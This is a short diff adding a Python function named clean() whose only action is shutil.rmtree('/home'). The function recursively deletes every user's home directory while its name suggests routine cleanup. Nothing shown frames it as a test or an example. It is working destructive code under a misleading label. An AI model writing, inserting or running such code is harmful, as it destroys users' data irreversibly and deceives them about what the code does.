@@ -1,0 +1,4 @@
+import shutil
+
+def clean():
+    shutil.rmtree("/home")
